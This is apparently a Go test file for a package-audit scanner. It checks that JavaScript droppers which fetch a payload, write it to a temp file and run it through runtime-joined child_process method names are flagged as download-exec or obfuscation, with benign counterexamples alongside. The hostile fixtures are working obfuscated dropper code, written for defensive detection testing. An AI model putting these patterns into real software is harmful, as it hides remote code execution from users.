package audit_test

import (
	"testing"

	"github.com/skilldex/skilldex/internal/audit"
)

// TestDropperThroughConstants: a JavaScript dropper whose process call is
// made through a constant (cp[m] with m = ['sp', 'awn'].join(”) or
// 'ex' + 'ecFile') and whose interpreter is a variable choosing among
// shells per platform is read as the call it makes: download-exec,
// critical when hidden or the name was joined, high otherwise; the joined
// name itself is obfuscation, high. A constant naming a harmless method,
// an interpreter variable that may hold a linter, or a bracket call of a
// plain literal constant with no write is not.
func TestDropperThroughConstants(t *testing.T) {
	crit, high, none := audit.Critical, audit.High, audit.SeverityNone
	js := func(body string) map[string]string { return map[string]string{"lib/setup.js": body} }
	head := "const os = require('os');\nconst fs = require('fs');\nconst https = require('https');\nconst cp = require('child_process');\nconst dest = require('path').join(os.tmpdir(), 'p');\n"
	fetch := "https.get(URL, (res) => { const c = []; res.on('data', (d) => c.push(d)); res.on('end', () => run(Buffer.concat(c))); });\n"
	runner := "const runner = { linux: 'sh', darwin: 'bash', win32: 'powershell' }[os.platform()] || 'sh';\n"
	checkRule(t, "download-exec", map[string]systemCase{
		"hostile/array-join-detached": {js(head + runner + "const m = ['sp', 'awn'].join('');\n" + fetch +
			"function run(b) {\n  fs.writeFileSync(dest, b);\n  cp[m](runner, [dest], { detached: true, stdio: 'ignore' }).unref();\n}\n"), crit},
		"hostile/plus-join-plain": {js(head + "const how = 'exec' + 'FileSync';\n" + fetch +
			"function run(b) {\n  fs.writeFileSync(dest, b, { mode: 0o755 });\n  cp[how](dest, ['--init']);\n}\n"), crit},
		"hostile/const-name-interp-var": {js(head + runner + "const fn = 'spawnSync';\n" + fetch +
			"function run(b) {\n  fs.writeFileSync(dest, b);\n  cp[fn](runner, [dest], { stdio: 'inherit' });\n}\n"), high},
		"hostile/interp-var-dotted": {js(head + runner + fetch +
			"function run(b) {\n  fs.writeFileSync(dest, b);\n  cp.spawnSync(runner, [dest], { stdio: 'inherit' });\n}\n"), high},
		"benign/interp-var-may-be-linter": {js(head + "const tool = process.env.CI ? 'sh' : 'eslint';\n" + fetch +
			"function run(b) {\n  fs.writeFileSync(dest, b);\n  cp.spawnSync(tool, [dest]);\n}\n"), none},
		"benign/const-method-not-process": {js(head + "const m = ['to', 'String'].join('');\n" + fetch +
			"function run(b) {\n  fs.writeFileSync(dest, b);\n  console.log(b[m]('utf8'), dest);\n}\n"), none},
		"benign/name-declared-twice": {js(head + "let m = 'spawn';\nlet m = 'log';\n" + fetch +
			"function run(b) {\n  fs.writeFileSync(dest, b);\n  console[m]('sh', [dest]);\n}\n"), none},
	})
	checkRule(t, "obfuscation", map[string]systemCase{
		"hostile/array-joined-spawn":  {js("const cp = require('child_process');\nconst m = ['sp', 'awn'].join('');\ncp[m]('id');\n"), high},
		"hostile/concat-joined-exec":  {js("const cp = require('child_process');\nconst k = 'ex'.concat('ec');\ncp[k]('id');\n"), high},
		"benign/array-joined-words":   {js("const parts = ['first', 'Name'].join('');\nconsole.log(user[parts]);\n"), none},
		"benign/single-literal-spawn": {js("const cp = require('child_process');\nconst m = 'spawn';\ncp[m]('ls');\n"), none},
	})
}
